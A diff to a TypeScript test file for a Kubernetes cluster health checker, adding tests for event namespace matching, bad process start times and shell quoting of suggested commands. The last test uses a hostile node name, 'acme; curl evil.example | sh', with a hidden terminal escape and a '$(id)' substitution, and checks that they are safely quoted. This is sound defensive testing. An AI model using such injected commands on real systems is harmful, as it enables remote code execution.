@@ -95,13 +95,19 @@ function service(
 function event(kind: string, name: string, reason: string, age: number, type = 'Warning'): CoreEvent {
   return {
     metadata: { name: `${name}.${reason}` },
-    involvedObject: { kind, name, uid: `uid-${name}` },
+    involvedObject: { kind, name, uid: `uid-${name}`, ...(kind === 'Service' && { namespace: 'default' }) },
     type,
     reason,
     message: `Because of ${reason}`,
     lastTimestamp: ago(age),
     source: { component: kind === 'Node' ? 'cloud-node-controller' : 'service-lb-controller' },
   };
+}
+
+/** As one who may write Events there alone can have it: the API server wants both namespaces to be the same. */
+function inNamespace(namespace: string, given: CoreEvent): CoreEvent {
+  const { involvedObject, metadata } = given;
+  return { ...given, metadata: { ...metadata, namespace }, involvedObject: { ...involvedObject, namespace } };
 }
 
 /** With the condition that the manager keeps. */
@@ -120,6 +126,14 @@ function withCondition(one: Service, reason: string, age: number): Service {
 function told(problems: readonly Problem[]): readonly string[] {
   return problems.map(({ about = '', runbook = '', section }) => [section, about, runbook].join('|'));
 }
+
+test('a start that is no time is left out', () => {
+  for (const value of ['+Inf', 'NaN', '1e300']) {
+    const text = METRICS.replace(/^process_start_time_seconds .*$/mu, `process_start_time_seconds ${value}`);
+    const { process } = judgeCluster({ ...healthy, metrics: { value: { status: 200, text } } });
+    assert.ok('value' in process && !('startedAt' in process.value), value);
+  }
+});
 
 test('a cluster in which all was read and nothing is wrong is healthy', () => {
   const status = judgeCluster(healthy);
@@ -339,6 +353,38 @@ for (const [what, facts, expected] of wrong) {
 /** What is as it should be, though it looks like what is not. */
 const fine: readonly (readonly [what: string, facts: Partial<ClusterFacts>])[] = [
   [
+    'an Event about the cloud in a namespace of a tenant, where no page is read',
+    {
+      readyz: { value: { status: 200, text: '[+]ping ok\n' } },
+      metrics: { value: { status: 200, text: METRICS.replaceAll(/^outrigger_cloud_answers.*\n/gmu, '') } },
+      events: { value: [inNamespace('a-tenant', event('Namespace', 'kube-system', 'CloudUnreachable', 9))] },
+    },
+  ],
+  [
+    'an Event of another program that calls its reason as ours does, where no page is read',
+    {
+      readyz: { value: { status: 200, text: '[+]ping ok\n' } },
+      metrics: { value: { status: 200, text: METRICS.replaceAll(/^outrigger_cloud_answers.*\n/gmu, '') } },
+      events: {
+        value: [{ ...event('Namespace', 'kube-system', 'CloudUnreachable', 9), source: { component: 'kubelet' } }],
+      },
+    },
+  ],
+  [
+    'an Event that has the UID of a Service of another namespace, or of a node',
+    {
+      nodes: { value: [node('worker-1', 5, true)] },
+      services: { value: [service('web', 5)] },
+      events: {
+        value: [
+          inNamespace('a-tenant', event('Service', 'web', 'SyncLoadBalancerFailed', 1)),
+          { ...event('Service', 'web', 'SyncLoadBalancerFailed', 1), involvedObject: { uid: 'uid-web' } },
+          inNamespace('a-tenant', event('Node', 'worker-1', 'InstanceNotFound', 1)),
+        ],
+      },
+    },
+  ],
+  [
     'a failure that was mended',
     {
       events: {
@@ -466,4 +512,24 @@ test('of many problems of one kind the first are told, and the others counted', 
   const { problems } = judgeCluster({ ...healthy, nodes: { value: nodes } });
   assert.equal(problems.length, 21);
   assert.equal(problems.at(-1)?.message, '5 more nodes with a problem.');
+});
+
+test('a command has no more than words: what others wrote is quoted for a shell, and a provider has the form of one', () => {
+  const hostile = "acme; curl evil.example | sh #'\u001B[8m";
+  const { clouds, problems } = judgeCluster({
+    ...healthy,
+    nodes: { value: [node(hostile, 900, true)] },
+    readyz: {
+      value: { status: 200, text: `[+]cloud-$(id) ok (failing: compute: unauthenticated since ${ago(60)})\n` },
+    },
+    metrics: {
+      value: { status: 200, text: `${METRICS}outrigger_cloud_answers{provider="${hostile}",service=""} 0\n` },
+    },
+  });
+  assert.deepEqual(clouds, { value: [{ provider: 'acme', service: 'compute', answers: true }] });
+  const quoted = `'acme; curl evil.example | sh #'\\''\u001B[8m'`;
+  assert.deepEqual(
+    problems.flatMap(({ commands }) => commands),
+    [`outrigger explain node ${quoted}`, `kubectl describe node ${quoted}`],
+  );
 });
